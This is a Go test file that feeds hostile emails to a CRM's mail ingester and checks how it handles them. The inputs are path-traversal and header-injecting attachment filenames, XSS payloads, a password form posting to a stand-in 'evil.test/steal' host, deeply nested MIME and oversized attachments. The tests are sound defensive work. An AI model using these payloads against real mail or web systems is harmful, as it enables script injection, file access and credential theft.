package email_test

import (
	"bufio"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"parley/crm"
)

var noTime time.Time

// deliver files a raw mail in the env's inbox the way the fetcher does.
func deliver(t *testing.T, e *env, raw string) *crm.IngestResult {
	t.Helper()
	return deliverReader(t, e, strings.NewReader(strings.ReplaceAll(strings.ReplaceAll(raw, "\r\n", "\n"), "\n", "\r\n")))
}

func deliverReader(t *testing.T, e *env, r io.Reader) *crm.IngestResult {
	t.Helper()
	d, err := e.ch.Deliver(e.ctx, e.inbox, r, noTime)
	if err != nil {
		t.Fatal(err)
	}
	if d.Result == nil {
		t.Fatalf("mail not filed: %s", d.Ignored)
	}
	return d.Result
}

// filed returns the message a delivery filed.
func (e *env) filed(res *crm.IngestResult) *crm.Message {
	e.t.Helper()
	for _, m := range e.messages(res.TicketID) {
		if m.ID == res.MessageID {
			return m
		}
	}
	e.t.Fatalf("message %d not in ticket %d", res.MessageID, res.TicketID)
	return nil
}

func TestHostileMail(t *testing.T) {
	e := newEnv(t, nil)
	base := "From: Mallory <mallory@evil.test>\nTo: support@shop.test\nSubject: %s\nMessage-ID: <%s@evil.test>\nMIME-Version: 1.0\n"

	t.Run("nested multipart 100 deep", func(t *testing.T) {
		var b strings.Builder
		fmt.Fprintf(&b, base, "deep", "deep")
		for i := range 100 {
			fmt.Fprintf(&b, "Content-Type: multipart/mixed; boundary=\"b%d\"\n\n--b%d\n", i, i)
		}
		b.WriteString("Content-Type: text/plain\n\nbottom\n")
		for i := 99; i >= 0; i-- {
			fmt.Fprintf(&b, "--b%d--\n", i)
		}
		m := e.filed(deliver(t, e, b.String()))
		if !strings.Contains(m.Text, "nested deeper than 20 levels") {
			t.Fatalf("text = %q", m.Text)
		}
	})

	t.Run("never closed boundary", func(t *testing.T) {
		raw := fmt.Sprintf(base, "unclosed", "unclosed") + "Content-Type: multipart/mixed; boundary=\"XX\"\n\n--XX\nContent-Type: text/plain\n\nthe text survives\n--XX\nContent-Type: application/pdf; name=\"a.pdf\"\nContent-Transfer-Encoding: base64\n\nJVBERi0xLjQK"
		m := e.filed(deliver(t, e, raw))
		if !strings.Contains(m.Text, "the text survives") {
			t.Fatalf("text = %q", m.Text)
		}
	})

	t.Run("50 MB attachment", func(t *testing.T) {
		head := fmt.Sprintf(base, "big", "big") + "Content-Type: multipart/mixed; boundary=\"B\"\n\n--B\nContent-Type: text/plain\n\nsee attached\n--B\nContent-Type: application/octet-stream; name=\"huge.bin\"\nContent-Transfer-Encoding: base64\n\n"
		head = strings.ReplaceAll(head, "\n", "\r\n")
		pr, pw := io.Pipe()
		go func() {
			bw := bufio.NewWriterSize(pw, 64<<10)
			enc := base64.NewEncoder(base64.StdEncoding, &lineWriter{w: bw})
			chunk := make([]byte, 1<<20)
			for range 50 {
				enc.Write(chunk)
			}
			enc.Close()
			bw.Flush()
			pw.Write([]byte("\r\n--B--\r\n"))
			pw.Close()
		}()
		m := e.filed(deliverReader(t, e, io.MultiReader(strings.NewReader(head), pr)))
		if !strings.Contains(m.Text, "see attached") || !strings.Contains(m.Text, `Attachment "huge.bin" was dropped`) {
			t.Fatalf("text = %q", m.Text)
		}
		for _, a := range m.Attachments {
			if a.Filename == "huge.bin" {
				t.Fatal("the oversized attachment was kept")
			}
		}
	})

	t.Run("10000 recipients", func(t *testing.T) {
		before, _, _ := e.db.Customers(e.ctx, "", crm.Page{Limit: 200})
		var to strings.Builder
		for i := range 10000 {
			if i > 0 {
				to.WriteString(",\n ")
			}
			fmt.Fprintf(&to, "r%d@example.com", i)
		}
		raw := strings.Replace(fmt.Sprintf(base, "many", "many"), "To: support@shop.test", "To: "+to.String()+"\nCc: "+to.String(), 1) +
			"Content-Type: text/plain\n\nhello all\n"
		deliver(t, e, raw)
		after, _, _ := e.db.Customers(e.ctx, "", crm.Page{Limit: 200})
		if len(after)-len(before) > 1 {
			t.Fatalf("%d customers created", len(after)-len(before))
		}
	})

	t.Run("hostile filenames", func(t *testing.T) {
		raw := fmt.Sprintf(base, "files", "files") + "Content-Type: multipart/mixed; boundary=\"B\"\n\n--B\nContent-Type: text/plain\n\nfiles\n" +
			"--B\nContent-Type: text/plain; name=\"../../etc/passwd\"\nContent-Disposition: attachment; filename=\"../../etc/passwd\"\n\nroot\n" +
			"--B\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"=?utf-8?b?" +
			base64.StdEncoding.EncodeToString([]byte("evil\x00\x1b[31m\u202egpj.exe\r\nX-Header: 1")) + "?=\"\n\nMZ\n--B--\n"
		m := e.filed(deliver(t, e, raw))
		names := []string{}
		for _, a := range m.Attachments {
			names = append(names, a.Filename)
			if strings.ContainsAny(a.Filename, "/\\\x00\x1b\r\n\u202e") {
				t.Errorf("unsafe filename %q", a.Filename)
			}
		}
		if names[0] != "passwd.txt" { // text/plain, named for its type
			t.Errorf("filenames = %q", names)
		}
	})

	t.Run("hostile html", func(t *testing.T) {
		raw := fmt.Sprintf(base, "html", "html") + "Content-Type: text/html\n\n" +
			`<html><head><base href="https://evil.test/"><style>body{background:url(javascript:alert(1))}</style></head><body>
<p onclick="alert(1)">Hello <b>there</b></p><script>alert(1)</script>
<a href="javascript:alert(1)">js</a> <a href="data:text/html;base64,PHNjcmlwdD4=">data</a>
<img src="x" onerror="alert(1)"> <div style="width: expression(alert(1))">css</div>
<form action="https://evil.test/steal"><input name="password"></form>
<iframe src="https://evil.test"></iframe><a href="https://ok.test/">fine link</a></body></html>`
		m := e.filed(deliver(t, e, raw))
		low := strings.ToLower(m.HTML)
		for _, bad := range []string{"<script", "onclick", "onerror", "javascript:", "data:", "expression(", "<base", "<form", "<input", "<iframe", "<style"} {
			if strings.Contains(low, bad) {
				t.Errorf("sanitized HTML contains %q:\n%s", bad, m.HTML)
			}
		}
		if !strings.Contains(m.HTML, "<b>there</b>") || !strings.Contains(m.HTML, "https://ok.test/") {
			t.Errorf("safe HTML lost: %s", m.HTML)
		}
		if !strings.Contains(m.Text, "Hello there") {
			t.Errorf("text = %q", m.Text)
		}
	})

	t.Run("invalid utf-8 and unknown charset", func(t *testing.T) {
		raw := fmt.Sprintf(base, "bad \xff\xfe bytes", "utf8") + "Content-Type: text/plain; charset=x-klingon\n\nqapla\xff\xc3\x28 done\n"
		res := deliver(t, e, raw)
		m := e.filed(res)
		tk, _ := e.db.Ticket(e.ctx, res.TicketID)
		if !utf8.ValidString(m.Text) || !utf8.ValidString(tk.Subject) || !strings.Contains(m.Text, "done") {
			t.Fatalf("text %q subject %q", m.Text, tk.Subject)
		}
	})

	t.Run("missing message-id is deduplicated by hash", func(t *testing.T) {
		raw := "From: ann@example.com\r\nTo: support@shop.test\r\nSubject: no id\r\n\r\nhello\r\n"
		a := deliver(t, e, raw)
		b := deliver(t, e, raw)
		if !b.Duplicate || a.MessageID != b.MessageID {
			t.Fatalf("second delivery = %+v, first %+v", b, a)
		}
		sum := sha256.Sum256([]byte(raw))
		m, err := e.db.MessageByExternalID(e.ctx, e.inbox.ID, "sha256:"+hex.EncodeToString(sum[:]))
		if err != nil || m.ID != a.MessageID {
			t.Fatalf("external id: %v", err)
		}
	})

	t.Run("same mail twice is one message", func(t *testing.T) {
		raw := customerMail("ann@example.com", "twice@example.com", "twice", "once")
		a, b := deliver(t, e, raw), deliver(t, e, raw)
		if !b.Duplicate || a.MessageID != b.MessageID || len(e.messages(a.TicketID)) != 1 {
			t.Fatalf("%+v %+v", a, b)
		}
	})

	t.Run("missing from and date", func(t *testing.T) {
		start := time.Now().Add(-time.Minute)
		res := deliver(t, e, "To: support@shop.test\r\nSubject: who?\r\nMessage-ID: <nofrom@x.test>\r\n\r\nanonymous\r\n")
		cu, _ := e.db.Customer(e.ctx, res.CustomerID)
		if cu.Identities[0].Address != "unknown-sender@parley.invalid" {
			t.Fatalf("customer = %+v", cu)
		}
		m := e.filed(res)
		if m.CreatedAt.Before(start) || !strings.Contains(m.Text, "sender's address is missing") {
			t.Fatalf("message = %+v", m)
		}
	})

	t.Run("malformed addresses", func(t *testing.T) {
		res := deliver(t, e, "From: <<<@@@>>> \"unterminated\r\nTo: ;;;,,,@\r\nSubject: x\r\nMessage-ID: <malformed@x.test>\r\n\r\nbody\r\n")
		if res.TicketID == 0 {
			t.Fatal("not filed")
		}
	})

	t.Run("unreadable header is quarantined", func(t *testing.T) {
		raw := "From: ann@example.com\r\nX-Long: " + strings.Repeat("a", 2<<20) + "\r\n\r\nbody\r\n"
		res := deliver(t, e, raw)
		tk, _ := e.db.Ticket(e.ctx, res.TicketID)
		m := e.filed(res)
		if tk.Subject != "Unreadable email (quarantined)" || len(tk.Tags) != 1 || tk.Tags[0] != "quarantine" {
			t.Fatalf("ticket = %+v", tk)
		}
		if len(m.Attachments) != 0 && m.Attachments[0].Filename != "message.eml" {
			t.Fatalf("attachments = %+v", m.Attachments)
		}
	})
}

// lineWriter breaks base64 into 76-character lines, as mailers do.
type lineWriter struct {
	w io.Writer
	n int
}

func (l *lineWriter) Write(p []byte) (int, error) {
	for i, b := range p {
		if l.n == 76 {
			if _, err := l.w.Write([]byte("\r\n")); err != nil {
				return i, err
			}
			l.n = 0
		}
		if _, err := l.w.Write([]byte{b}); err != nil {
			return i, err
		}
		l.n++
	}
	return len(p), nil
}

var _ = context.Background
